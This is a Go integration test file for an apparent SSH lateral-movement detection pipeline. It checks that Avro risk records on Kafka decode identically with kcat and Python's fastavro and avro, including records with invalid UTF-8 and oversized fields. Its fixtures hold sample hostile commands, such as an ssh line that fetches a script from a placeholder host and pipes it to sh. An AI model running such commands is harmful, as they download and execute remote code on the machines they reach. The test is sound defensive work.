package integration

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/sshlateral/sshlateral/processor"
	"github.com/sshlateral/sshlateral/producer"
)

// requireTool finds an external program. In CI (SSHLATERAL_INTEGRATION=1)
// a missing tool fails the test; on a developer machine it skips, saying why.
func requireTool(t *testing.T, name string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err == nil {
		return path
	}
	if integrationEnabled() {
		t.Fatalf("%s is required for independent verification: %v (.ci/run installs it)", name, err)
	}
	t.Skipf("%s not installed; .ci/run installs it", name)
	return ""
}

// requirePythonAvro checks that the verifier's Python packages import.
func requirePythonAvro(t *testing.T, python string) {
	t.Helper()
	out, err := exec.Command(python, "-c", "import fastavro, avro").CombinedOutput()
	if err == nil {
		return
	}
	if integrationEnabled() {
		t.Fatalf("python packages fastavro and avro are required: %v\n%s", err, out)
	}
	t.Skipf("python packages fastavro/avro not installed (pip install -r integration/verify/requirements.txt): %s", out)
}

// TestIndependentReaders reads the output topic with kcat (librdkafka) and
// decodes every record with Python's fastavro and avro against
// schemas/risk_record.avsc: tools that share no code with ours. Any record
// they cannot decode, or decode differently, fails the test.
func TestIndependentReaders(t *testing.T) {
	kcat := requireTool(t, "kcat")
	python := requireTool(t, "python3")
	requirePythonAvro(t, python)

	forEachBroker(t, func(t *testing.T, b testBroker) {
		tp := setupTopics(t, b, 3)
		g := generateStream(8, 1500, 12, 20, streamStart, 2*time.Second)
		startInstance(t, pipelineConfig(b, tp, processor.EmitEarly))
		produceLines(t, b, tp.input, g.lines())
		produceClosers(t, b, tp, g)
		rows := g.rows()
		want := 0
		for _, r := range rows {
			want += 2
			if r.Count > 1 {
				want += 2
			}
		}
		ours := readRiskRecords(t, b, tp.output, want, 2*time.Second, 90*time.Second)
		if len(ours) != want {
			t.Fatalf("our reader found %d records, want %d", len(ours), want)
		}

		oursJSON := readJSONLines(t, b, tp.output, want)

		dump := filepath.Join(t.TempDir(), "risk.kcat")
		cmd := exec.Command(kcat, "-C", "-b", strings.Join(b.Seeds(), ","), "-t", tp.output, "-o", "beginning", "-e", "-q",
			"-X", "isolation.level=read_committed", "-f", "%R%s")
		out, err := os.Create(dump)
		if err != nil {
			t.Fatal(err)
		}
		var stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = out, &stderr
		err = cmd.Run()
		out.Close()
		if err != nil {
			t.Fatalf("kcat: %v\n%s", err, stderr.String())
		}

		for _, lib := range []string{"fastavro", "avro"} {
			decoded := 0
			ids := map[string]int{}
			theirs := map[string]int{}
			for _, line := range runVerifier(t, python, "--kcat-file", dump, "--wire", "plain", "--lib", lib) {
				var rec map[string]any
				if err := json.Unmarshal([]byte(line), &rec); err != nil {
					t.Fatalf("%s verifier printed a non-JSON line: %v: %s", lib, err, line)
				}
				decoded++
				theirs[line]++
				ids[rec["alert_id"].(string)]++
				if rec["risk_score"].(float64) != processor.RiskScore {
					t.Errorf("%s: risk_score %v", lib, rec["risk_score"])
				}
			}
			if decoded != want {
				t.Errorf("%s decoded %d records, want %d", lib, decoded, want)
			}
			for _, r := range ours {
				if ids[r.AlertID] == 0 {
					t.Errorf("%s did not see alert %s", lib, r.AlertID)
				}
			}
			// Byte for byte: the independent rendering equals ours.
			for line, n := range oursJSON {
				if theirs[line] != n {
					t.Errorf("%s rendered a record differently or not at all (%d vs %d): %s", lib, theirs[line], n, line)
					break
				}
			}
			t.Logf("%s: kcat + %s decoded %d records, identical to ours", b.Name(), lib, decoded)
		}
	})
}

// runVerifier runs verify/decode_avro.py with args and returns its output
// lines; a non-zero exit fails the test with the verifier's stderr.
func runVerifier(t *testing.T, python string, args ...string) []string {
	t.Helper()
	_, file, _, _ := runtime.Caller(0)
	verifier := filepath.Join(filepath.Dir(file), "verify", "decode_avro.py")
	cmd := exec.Command(python, append([]string{verifier}, args...)...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("verifier %v: %v\n%s", args, err, stderr.String())
	}
	var lines []string
	sc := bufio.NewScanner(&stdout)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	for sc.Scan() {
		lines = append(lines, sc.Text())
	}
	return lines
}

// TestVerifyHostileRiskRecordsAvro: risk records of matches with invalid
// UTF-8 and oversized values are read by Python's fastavro and avro (Avro
// strings must be UTF-8: both reject other bytes), render exactly as ours,
// and say what was cut or replaced. The same for an object container file.
func TestVerifyHostileRiskRecordsAvro(t *testing.T) {
	python := requireTool(t, "python3")
	requirePythonAvro(t, python)
	base := processor.Result{
		AlertID: "52e934efd82bdc98b5ab3019aa918d1b",
		Key: processor.GroupKey{Dest: "web-01", User: "root", ParentProcessName: "bash", ProcessName: "ssh",
			Process: "ssh -oBatchMode=yes h curl http://x/p.sh", ProcessID: "4242", ParentProcessID: "4100"},
		Count: 1, FirstSeen: streamStart, LastSeen: streamStart,
		WindowStart: streamStart.Truncate(time.Hour), WindowEnd: streamStart.Truncate(time.Hour).Add(time.Hour),
		Emission: processor.EmissionEarly,
	}
	results := []processor.Result{base, base, base, base}
	results[0].Key.Process = "ssh -oBatchMode=yes h curl http://x/\xff\xfe.sh | sh"
	results[1].Key.Dest = strings.Repeat("h", 400<<10)
	results[2].Key.User = "r\xc3\x28oot"
	results[2].ParentProcess = strings.Repeat("\xe9", 20<<10)
	results[3].OriginalFileName = "ssh\x00\u2028"
	for i := range results {
		results[i].AlertID = fmt.Sprintf("%s-%d", base.AlertID, i)
	}

	for _, wire := range []producer.WireFormat{producer.WirePlain, producer.WireConfluent} {
		t.Run(wire.String(), func(t *testing.T) {
			enc, err := producer.NewEncoder(producer.EncoderConfig{Topic: "risk", Wire: wire, SchemaID: 7})
			if err != nil {
				t.Fatal(err)
			}
			recs, err := enc.Records(results, nil)
			if err != nil {
				t.Fatal(err)
			}
			dec, err := producer.NewDecoder()
			if err != nil {
				t.Fatal(err)
			}
			var dump bytes.Buffer
			var ours []string
			for _, r := range recs {
				if len(r.Value) > 64<<10 {
					t.Errorf("alert %s: %d-byte record", r.Key, len(r.Value))
				}
				dump.Write(binary.BigEndian.AppendUint32(nil, uint32(len(r.Value))))
				dump.Write(r.Value)
				native, err := dec.Decode(r.Value)
				if err != nil {
					t.Fatal(err)
				}
				line, err := producer.JSON(native)
				if err != nil {
					t.Fatal(err)
				}
				ours = append(ours, string(line))
			}
			file := filepath.Join(t.TempDir(), "risk.kcat")
			if err := os.WriteFile(file, dump.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			for _, lib := range []string{"fastavro", "avro"} {
				theirs := runVerifier(t, python, "--kcat-file", file, "--wire", wire.String(), "--lib", lib)
				compareVerifierLines(t, lib, theirs, ours)
			}
		})
	}

	t.Run("ocf", func(t *testing.T) {
		var buf bytes.Buffer
		w, err := producer.NewOCFWriter(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(results); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		var ours []string
		for _, r := range results {
			lines, err := producer.AppendJSONLines(nil, &r)
			if err != nil {
				t.Fatal(err)
			}
			ours = append(ours, strings.Split(strings.TrimSuffix(string(lines), "\n"), "\n")...)
		}
		file := filepath.Join(t.TempDir(), "risk.avro")
		if err := os.WriteFile(file, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		for _, lib := range []string{"fastavro", "avro"} {
			compareVerifierLines(t, lib, runVerifier(t, python, "--ocf-file", file, "--lib", lib), ours)
		}
	})
}

func compareVerifierLines(t *testing.T, lib string, theirs, ours []string) {
	t.Helper()
	if len(theirs) != len(ours) {
		t.Fatalf("%s decoded %d records, want %d", lib, len(theirs), len(ours))
	}
	for i := range ours {
		if theirs[i] != ours[i] {
			t.Errorf("%s record %d renders differently:\n got %.300s\nwant %.300s", lib, i, theirs[i], ours[i])
		}
		var rec struct {
			Truncated []string `json:"truncated"`
			Sanitized []string `json:"sanitized"`
		}
		if err := json.Unmarshal([]byte(theirs[i]), &rec); err != nil {
			t.Fatal(err)
		}
		if i < 6 && len(rec.Truncated)+len(rec.Sanitized) == 0 {
			t.Errorf("%s record %d: neither truncated nor sanitized", lib, i)
		}
	}
}

// readJSONLines reads want risk records and renders each with producer.JSON.
func readJSONLines(t *testing.T, b testBroker, topic string, want int) map[string]int {
	t.Helper()
	dec, err := producer.NewDecoder()
	if err != nil {
		t.Fatal(err)
	}
	cl := newClient(t, b, kgo.ConsumeTopics(topic), kgo.ConsumeResetOffset(kgo.NewOffset().AtStart()),
		kgo.FetchIsolationLevel(kgo.ReadCommitted()))
	out := map[string]int{}
	n := 0
	deadline := time.Now().Add(30 * time.Second)
	for n < want && time.Now().Before(deadline) {
		ctx, cancel := context.WithTimeout(context.Background(), time.Second)
		cl.PollFetches(ctx).EachRecord(func(r *kgo.Record) {
			m, err := dec.Decode(r.Value)
			if err != nil {
				t.Fatalf("decode %s/%d/%d: %v", r.Topic, r.Partition, r.Offset, err)
			}
			line, err := producer.JSON(m)
			if err != nil {
				t.Fatal(err)
			}
			out[string(line)]++
			n++
		})
		cancel()
	}
	return out
}
